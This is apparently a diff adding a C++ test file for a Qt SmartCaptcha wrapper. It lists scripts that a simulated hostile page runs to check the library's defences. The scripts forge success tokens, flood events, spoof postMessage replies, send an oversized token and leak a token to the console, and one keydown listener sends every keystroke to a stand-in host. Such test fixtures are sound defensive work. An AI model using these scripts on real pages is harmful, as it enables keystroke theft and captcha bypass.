@@ -1,0 +1,101 @@
+// SPDX-FileCopyrightText: 2026 SmartCaptcha for Qt contributors
+// SPDX-License-Identifier: MIT
+
+#include "attack.h"
+#include "shared/eventually.h"
+
+// A page that says what has not happened.
+QList<Attack> attacksToForge()
+{
+    using Mode = SmartCaptchaOptions::Mode;
+    using Code = SmartCaptchaError::Code;
+    QList<Attack> attacks;
+    attacks << Attack{.name = "a token that nobody pressed for",
+                      .script = "begun = () => { subs.success('dD0yMDI2-nobody-pressed'); done(); };"};
+    attacks << Attack{.name = "tokens again and again",
+                      .script = "begun = () => { let n = 0; done(); setInterval(() => {"
+                                "subs.success('dD0yMDI2-again-' + ++n); subs['token-expired'](); }, 4); };",
+                      .watch = 1500};
+    attacks << Attack{.name = "a challenge that nobody asked for",
+                      .script = "begun = () => { subs['challenge-visible'](); done(); };",
+                      .act = [](Scene &scene, HostileSite &) { scene.type(QStringLiteral("secret")); },
+                      .staysReady = true};
+    attacks << Attack{.name = "challenges again and again",
+                      .script = "begun = () => { done(); setInterval(() => { subs['challenge-visible']();"
+                                "subs['challenge-hidden'](); }, 4); };",
+                      .act = [](Scene &scene, HostileSite &) { scene.type(QStringLiteral("secret")); },
+                      .watch = 1500};
+    attacks << Attack{.name = "after one press, tokens again and again",
+                      .script = "onclick = () => { let n = 0; setInterval(() => {"
+                                "subs.success('dD0yMDI2-again-' + ++n); subs['token-expired'](); }, 4); };"
+                                "begun = done;",
+                      .act =
+                          [](Scene &scene, HostileSite &) {
+                              scene.press({150, 60});
+                          },
+                      .dones = 2,
+                      .watch = 1500,
+                      .tokens = 1};
+    attacks << Attack{.name = "invisible, a token without execute()",
+                      .script = "begun = () => { subs.success('dD0yMDI2-invisible'); done(); };",
+                      .mode = Mode::Invisible};
+    attacks << Attack{.name = "invisible, uncontrollable by its own word, a token without execute()",
+                      .script =
+                          "clearInterval(rendering); addEventListener('message', event => {"
+                          "  const text = event.data && event.data.smartCaptchaMessage; if (!text) return;"
+                          "  const message = JSON.parse(text);"
+                          "  if (message.type !== 'ready' || window.said) return; window.said = true;"
+                          "  for (const type of ['challengeVisible', 'challengeHidden', 'success'])"
+                          "    postMessage({smartCaptchaMessage: JSON.stringify({nonce: message.nonce,"
+                          "      attempt: message.attempt, type: type, token: 'dD0yMDI2-forged'})}, '*');"
+                          "  done(); });"
+                          "window.smartCaptcha = undefined;",
+                      .mode = Mode::Invisible,
+                      .hosts = {Host::Widget, Host::WebEngine},
+                      .watch = 800};
+    attacks << Attack{.name = "frozen smartCaptcha object, token by the bridge of native clients",
+                      .script = "clearInterval(rendering); window.smartCaptcha = Object.freeze({});"
+                                "setTimeout(() => { NativeClient.onChallengeVisible(); "
+                                "NativeClient.onGetToken('dD0yMDI2-native'); done(); }, 1800);",
+                      .mode = Mode::Invisible,
+                      .watch = 800};
+    attacks << Attack{.name = "an endless token",
+                      .script = "begun = () => { subs.success('x'.repeat(50e6)); done(); };"};
+    attacks << Attack{.name = "a challenge in the middle of typing",
+                      .script =
+                          "addEventListener('keydown', event =>"
+                          "fetch('ELSEWHERE/key?' + event.key, {mode: 'no-cors'}), true);"
+                          "executed = () => setTimeout(() => { subs['challenge-visible'](); done(); }, 150);"
+                          "begun = done;",
+                      .mode = Mode::Invisible,
+                      .act =
+                          [](Scene &scene, HostileSite &) {
+                              if (scene.challenges > 0)
+                                  return;
+                              scene.execute();
+                              for (int letter = 0; letter < 20; ++letter) {
+                                  letPass(60, "a person types this fast");
+                                  scene.type(QStringLiteral("x"));
+                              }
+                          },
+                      .dones = 2,
+                      .watch = 500,
+                      .challenges = 1};
+    attacks << Attack{
+        .name = "the token in the console",
+        .script = "addEventListener('click', () => { subs.success('short-secret');"
+                  "setTimeout(() => { for (const say of [console.log, console.error, console.debug])"
+                  "say('they have short-secret now'); setTimeout(done, 200); }, 500); }); begun = done;",
+        .act =
+            [](Scene &scene, HostileSite &) {
+                scene.press({150, 60});
+            },
+        .dones = 3,
+        .tokens = 1,
+        .secrets = {"short-secret"}};
+    attacks << Attack{.name = "a script that throws ends once",
+                      .script = "begun = () => { for (let i = 0; i < 500; ++i)"
+                                "subs['javascript-error']({message: 'x'}); done(); };",
+                      .error = Code::JavascriptError};
+    return attacks;
+}
